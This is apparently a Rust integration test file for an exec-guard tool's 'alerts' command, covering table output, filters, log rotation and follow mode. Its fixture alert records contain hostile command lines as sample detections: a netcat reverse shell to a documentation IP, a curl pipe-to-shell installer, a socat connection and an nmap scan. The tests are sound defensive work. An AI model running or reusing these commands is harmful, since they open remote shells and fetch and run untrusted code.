//! `execguard alerts` as a user runs it: the real binary on alert files written here, in
//! a directory of the system's temporary directory, the way the shims and logrotate leave
//! them (rotated, compressed, truncated, with a bad line).

use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc::{self, Receiver};
use std::time::{Duration, SystemTime};

use serde_json::{json, Value};

/// A directory of its own for each test, removed when the test ends.
struct TempDir(PathBuf);

impl TempDir {
    fn new(test: &str) -> TempDir {
        let dir = std::env::temp_dir().join(format!("execguard-alerts-{}-{test}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("create the test directory");
        TempDir(dir)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn write_lines(path: &Path, lines: &[String]) {
    std::fs::write(path, lines.iter().map(|line| format!("{line}\n")).collect::<String>()).expect("write alerts");
}

fn append(path: &Path, text: &str) {
    let mut file = std::fs::OpenOptions::new().create(true).append(true).open(path).expect("open for append");
    file.write_all(text.as_bytes()).expect("append");
}

/// `execguard alerts ARGS` with COLUMNS as given (or unset), and a configuration file of
/// the test's own so that the node's /etc/execguard is never read.
fn alerts(dir: &TempDir, args: &[&str], columns: Option<&str>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_execguard"));
    command.arg("alerts").args(args).env("EXECGUARD_CONFIG", dir.path("config.toml"));
    match columns {
        Some(columns) => command.env("COLUMNS", columns),
        None => command.env_remove("COLUMNS"),
    };
    if !dir.path("config.toml").exists() {
        std::fs::write(dir.path("config.toml"), "").expect("write config.toml");
    }
    command.output().expect("run execguard alerts")
}

fn stdout(output: &Output) -> Vec<String> {
    assert!(output.status.success(), "execguard alerts failed: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).lines().map(str::to_string).collect()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// An alert record as the shim writes it, with the fields the table shows.
struct Alert {
    at: Option<String>,
    namespace: &'static str,
    pod: &'static str,
    container: &'static str,
    decision: &'static str,
    rule: &'static str,
    args: Vec<&'static str>,
}

fn alert(pod: &'static str, decision: &'static str, rule: &'static str, args: &[&'static str]) -> Alert {
    Alert {
        at: Some("2026-12-03T06:11:07.123Z".into()),
        namespace: "shop",
        pod,
        container: "nginx",
        decision,
        rule,
        args: args.to_vec(),
    }
}

impl Alert {
    fn json(&self) -> Value {
        let mut record = json!({
            "process": {"executable": format!("/usr/bin/{}", self.args[0]), "args": self.args,
                        "parent": {"executable": "/bin/bash", "args": ["bash"]}},
            "container": {"id": "4f3c2a9d8e7f6a5b4c3d2e1f", "name": self.container, "image": {"name": "nginx:1.27"}},
            "orchestrator": {"namespace": self.namespace, "resource": {"name": self.pod, "type": "pod"}},
            "decision": self.decision,
            "rule": {"id": self.rule, "name": "a rule", "severity": "high"},
            "reason": "matched",
        });
        if let Some(at) = &self.at {
            record["@timestamp"] = json!(at);
        }
        record
    }

    fn line(&self) -> String {
        self.json().to_string()
    }
}

#[test]
fn the_table_has_a_column_per_field_and_fits_the_width() {
    let dir = TempDir::new("table");
    let file = dir.path("alerts.jsonl");
    let nc = alert("web-1", "block", "falco.netcat_rce", &["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]);
    // A summary of suppressed repeats, from a container known by its id only.
    let mut curl = alert("web-1", "alert", "elastic.curl", &["curl", "-o", "/tmp/k", "https://203.0.113.7/k"]).json();
    curl["@timestamp"] = json!("2026-12-03T06:12:00Z");
    curl["container"] = json!({"id": "4f3c2a9d8e7f6a5b4c3d2e1f"});
    curl["process"]["parent"] = json!({"args": ["sh", "-c", "curl -fsSL https://example.com/install.sh | sh"]});
    curl["execguard"] = json!({"repeats": {"count": 2}});
    // `execguard run`: no pod, no timestamp; no rule decided; an argument with a quote,
    // one with an escape sequence, and a parent known by its executable only.
    let undecided = json!({
        "process": {"executable": "/tmp/x", "args": ["x", "it's", "\u{1b}[2J"], "parent": {"executable": "/bin/sh"}},
        "decision": "block", "rule": null, "event": {"action": "exec-undecided"},
    });
    write_lines(&file, &[nc.line(), curl.to_string(), undecided.to_string()]);
    let lines = stdout(&alerts(&dir, &["--file", file.to_str().unwrap()], Some("100")));
    assert_eq!(
        lines,
        [
            "TIME                 WHERE                    DECISION  RULE              COMMAND           PARENT",
            "2026-12-03 06:11:07  shop/web-1/nginx         block     falco.netcat_rce  nc 203.0.113.7 …  bash",
            "2026-12-03 06:12:00  shop/web-1/4f3c2a9d8e7f  alert x3  elastic.curl      curl -o /tmp/k …  sh -c '…",
            "-                    -                        block     exec-undecided    x 'it'\\''s' $'\\…  /bin/sh",
        ]
    );
    assert!(lines.iter().all(|line| line.chars().count() <= 100));

    let narrow = stdout(&alerts(&dir, &["--file", file.to_str().unwrap()], Some("60")));
    assert_eq!(narrow.len(), 4);
    for line in &narrow {
        assert!(line.chars().count() <= 60, "{line:?} is wider than 60");
    }
    // Not a terminal, no COLUMNS: 120, room for every command in full.
    let wide = stdout(&alerts(&dir, &["--file", file.to_str().unwrap()], None));
    assert!(wide[1].contains("nc 203.0.113.7 4444 -e /bin/sh"), "{wide:?}");
    assert!(wide[3].contains(r"x 'it'\''s' $'\x1b[2J'"), "the escape sequence is shown, not sent: {wide:?}");
}

#[test]
fn each_filter_selects_its_records() {
    let dir = TempDir::new("filters");
    let file = dir.path("alerts.jsonl");
    let web_nc = alert("web-1", "block", "falco.netcat_rce", &["nc", "-lp", "4444"]);
    let web_curl = alert("web-1", "alert", "elastic.curl", &["curl", "http://203.0.113.7/"]);
    let mut cart_socat = alert("cart-2", "block", "datadog.socat", &["socat", "-", "tcp:203.0.113.7:80"]);
    cart_socat.namespace = "payments";
    let mut undecided = alert("cart-2", "block", "-", &["nmap", "10.0.0.0/24"]).json();
    undecided["rule"] = Value::Null;
    undecided["event"] = json!({"action": "exec-undecided"});
    let all = [web_nc.line(), web_curl.line(), cart_socat.line(), undecided.to_string()];
    write_lines(&file, &all);
    let path = file.to_str().unwrap();
    let selected = |filter: &[&str]| {
        let args: Vec<&str> = ["--file", path, "--json"].iter().chain(filter).copied().collect();
        stdout(&alerts(&dir, &args, None))
    };
    let pick = |indexes: &[usize]| -> Vec<String> { indexes.iter().map(|&i| all[i].clone()).collect() };
    assert_eq!(selected(&[]), all);
    assert_eq!(selected(&["--pod", "web-1"]), pick(&[0, 1]));
    assert_eq!(selected(&["--namespace", "payments"]), pick(&[2]));
    assert_eq!(selected(&["--decision", "alert"]), pick(&[1]));
    assert_eq!(selected(&["--decision", "block", "--pod", "cart-2"]), pick(&[2, 3]));
    assert_eq!(selected(&["--rule", "falco.netcat_rce"]), pick(&[0]));
    assert_eq!(selected(&["--rule", "falco.netcat"]), pick(&[]), "an id matches whole");
    assert_eq!(selected(&["--rule", "*.netcat_*"]), pick(&[0]));
    assert_eq!(selected(&["--rule", "d*"]), pick(&[2]));
    assert_eq!(selected(&["--rule", "exec-undecided"]), pick(&[3]), "records no rule decided match their action");

    let typo = alerts(&dir, &["--file", path, "--decision", "blocked"], None);
    assert!(!typo.status.success());
    assert!(stderr(&typo).contains("possible values: block, alert, allow"), "{}", stderr(&typo));
}

#[test]
fn since_keeps_the_recent_records() {
    let dir = TempDir::new("since");
    let file = dir.path("alerts.jsonl");
    let at = |ago: u64| humantime::format_rfc3339_millis(SystemTime::now() - Duration::from_secs(ago)).to_string();
    let mut old = alert("web-1", "block", "falco.netcat_rce", &["nc", "-lp", "4444"]);
    old.at = Some(at(3600));
    let mut new = alert("web-1", "block", "falco.netcat_rce", &["nc", "-lp", "5555"]);
    new.at = Some(at(0));
    let mut undated = alert("web-1", "block", "falco.netcat_rce", &["nc", "-lp", "6666"]);
    undated.at = None;
    write_lines(&file, &[old.line(), new.line(), undated.line()]);
    let path = file.to_str().unwrap();
    assert_eq!(stdout(&alerts(&dir, &["--file", path, "--json", "--since", "10m"], None)), [new.line()]);
    assert_eq!(stdout(&alerts(&dir, &["--file", path, "--json", "--since", "2h"], None)), [old.line(), new.line()]);
    let bad = alerts(&dir, &["--file", path, "--since", "10 parsecs"], None);
    assert!(!bad.status.success() && stderr(&bad).contains("--since"), "{}", stderr(&bad));
}

#[test]
fn json_prints_the_lines_as_they_are_in_the_file() {
    let dir = TempDir::new("json");
    let file = dir.path("alerts.jsonl");
    // Key order, spacing and escapes that parsing and writing again would not keep.
    let line = r#"{ "rule": {"id": "falco.netcat_rce"},  "decision":"block", "process": {"args": ["nc", "\u002dlp"]}, "x": 1.50 }"#;
    std::fs::write(&file, format!("{line}\n\n{}\n", alert("web-1", "alert", "r", &["id"]).line())).unwrap();
    let out = stdout(&alerts(&dir, &["--file", file.to_str().unwrap(), "--json", "--decision", "block"], None));
    assert_eq!(out, [line]);
}

#[test]
fn rotated_files_are_read_oldest_first() {
    let dir = TempDir::new("rotated");
    let file = dir.path("alerts.jsonl");
    let numbered = |suffix: &str| PathBuf::from(format!("{}{suffix}", file.display()));
    let records: Vec<String> = ["first", "second", "third", "fourth"]
        .iter()
        .map(|arg| alert("web-1", "block", "r", &["nc", arg]).line())
        .collect();
    write_lines(&numbered(".2"), &records[0..1]);
    write_lines(&numbered(".1"), &records[1..3]);
    write_lines(&file, &records[3..]);
    // Older still, compressed by logrotate: skipped, with one note.
    std::fs::write(numbered(".3.gz"), b"\x1f\x8b not really").unwrap();
    std::fs::write(numbered(".4.gz"), b"\x1f\x8b not really").unwrap();
    let output = alerts(&dir, &["--file", file.to_str().unwrap(), "--json"], None);
    assert_eq!(stdout(&output), records);
    let notes = stderr(&output);
    assert_eq!(notes.lines().count(), 1, "{notes}");
    assert!(notes.contains(".4.gz") && notes.contains(".3.gz") && notes.contains("compressed"), "{notes}");

    // Just rotated, nothing alerted since: the old files are still shown.
    std::fs::remove_file(&file).unwrap();
    assert_eq!(stdout(&alerts(&dir, &["--file", file.to_str().unwrap(), "--json"], None)), records[..3]);
}

#[test]
fn a_malformed_line_is_reported_with_its_place_and_skipped() {
    let dir = TempDir::new("malformed");
    let file = dir.path("alerts.jsonl");
    let (a, b) = (alert("web-1", "block", "r", &["nc", "a"]).line(), alert("web-1", "block", "r", &["nc", "b"]).line());
    let half = &b[..b.len() / 2];
    std::fs::write(&file, format!("{a}\n{half}\n[1, 2]\n{b}")).unwrap();
    let output = alerts(&dir, &["--file", file.to_str().unwrap(), "--json"], None);
    assert_eq!(stdout(&output), [a, b], "the last line counts without its newline");
    let notes = stderr(&output);
    let place = file.display();
    assert!(notes.contains(&format!("{place}:2: not an alert record (EOF while parsing")), "{notes}");
    assert!(notes.contains(&format!("{place}:3: not an alert record (not a JSON object)")), "{notes}");
    assert_eq!(notes.lines().count(), 2, "{notes}");
}

#[test]
fn the_alert_file_comes_from_the_configuration() {
    let dir = TempDir::new("config");
    let file = dir.path("node-alerts.jsonl");
    let record = alert("web-1", "block", "r", &["nc"]).line();
    write_lines(&file, std::slice::from_ref(&record));
    std::fs::write(dir.path("config.toml"), format!("[alerts]\nfile = {:?}\n", file.display().to_string())).unwrap();
    assert_eq!(stdout(&alerts(&dir, &["--json"], None)), [record]);

    std::fs::write(dir.path("config.toml"), "deadline_ms = 500\n").unwrap();
    let output = alerts(&dir, &[], None);
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(
        message.contains("config.toml") && message.contains("[alerts] file") && message.contains("--file PATH"),
        "{message}"
    );

    let missing = alerts(&dir, &["--file", dir.path("none.jsonl").to_str().unwrap()], None);
    assert!(!missing.status.success());
    assert!(stderr(&missing).contains("none.jsonl does not exist"), "{}", stderr(&missing));
}

/// `execguard alerts --follow`, its standard output read line by line on a thread.
struct Follower {
    child: Child,
    lines: Receiver<String>,
}

impl Follower {
    fn start(dir: &TempDir, args: &[&str]) -> Follower {
        let mut child = Command::new(env!("CARGO_BIN_EXE_execguard"))
            .arg("alerts")
            .arg("--follow")
            .args(args)
            .env("EXECGUARD_CONFIG", dir.path("config.toml"))
            .env("COLUMNS", "120")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start execguard alerts --follow");
        let stdout = child.stdout.take().expect("stdout");
        let (send, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if send.send(line).is_err() {
                    break;
                }
            }
        });
        Follower { child, lines }
    }

    fn next(&self, what: &str) -> String {
        self.lines.recv_timeout(Duration::from_secs(10)).unwrap_or_else(|_| panic!("no line for {what} within 10 s"))
    }

    fn nothing_more(&self) {
        if let Ok(line) = self.lines.recv_timeout(Duration::from_millis(700)) {
            panic!("unexpected line {line:?}");
        }
    }

    /// Kills it and gives what it wrote to standard error.
    fn stop(mut self) -> String {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let mut notes = String::new();
        if let Some(mut stderr) = self.child.stderr.take() {
            let _ = stderr.read_to_string(&mut notes);
        }
        notes
    }
}

#[test]
fn follow_goes_on_across_appends_renames_and_truncation() {
    let dir = TempDir::new("follow");
    let file = dir.path("alerts.jsonl");
    let rotated = PathBuf::from(format!("{}.1", file.display()));
    let record = |arg: &'static str| alert("web-1", "block", "r", &["nc", arg]).line();
    write_lines(&file, &[record("before")]);
    let follower = Follower::start(&dir, &["--file", file.to_str().unwrap(), "--json"]);
    assert_eq!(follower.next("the file as it was"), record("before"));

    append(&file, &format!("{}\n", record("appended")));
    assert_eq!(follower.next("an appended line"), record("appended"));

    // A record written in two pieces is one line, read once it is whole.
    let piece = record("in-two-writes");
    append(&file, &piece[..10]);
    follower.nothing_more();
    append(&file, &format!("{}\n", &piece[10..]));
    assert_eq!(follower.next("a line written in two pieces"), piece);

    // Rotation by rename: the writer finishes the old file, then creates PATH again.
    std::fs::rename(&file, &rotated).unwrap();
    append(&rotated, &format!("{}\n", record("late-in-the-old-file")));
    // Long enough for a look that finds no PATH at all.
    std::thread::sleep(Duration::from_millis(600));
    write_lines(&file, &[record("new-file")]);
    assert_eq!(follower.next("the old file's last line"), record("late-in-the-old-file"));
    assert_eq!(follower.next("the new file's first line"), record("new-file"));

    // copytruncate: PATH copied away, then cut to nothing in place; what follows is
    // shorter than what was read.
    std::fs::OpenOptions::new().write(true).open(&file).unwrap().set_len(0).unwrap();
    append(&file, &format!("{}\n", record("t")));
    assert_eq!(follower.next("the first line after the truncation"), record("t"));
    follower.nothing_more();
    let notes = follower.stop();
    assert!(notes.is_empty(), "{notes}");
}

#[test]
fn follow_waits_for_the_file_and_prints_rows() {
    let dir = TempDir::new("follow-table");
    let file = dir.path("alerts.jsonl");
    let follower = Follower::start(&dir, &["--file", file.to_str().unwrap(), "--pod", "web-1"]);
    assert!(follower.next("the header").starts_with("TIME "));
    write_lines(
        &file,
        &[alert("cart-2", "block", "r", &["nc", "cart"]).line(), alert("web-1", "alert", "r", &["nc", "web"]).line()],
    );
    let row = follower.next("the row of web-1");
    assert!(row.starts_with("2026-12-03 06:11:07  shop/web-1/nginx  alert") && row.ends_with("nc web   bash"), "{row}");
    follower.nothing_more();
    let notes = follower.stop();
    assert!(notes.contains("alerts.jsonl does not exist yet: waiting for it"), "{notes}");
}
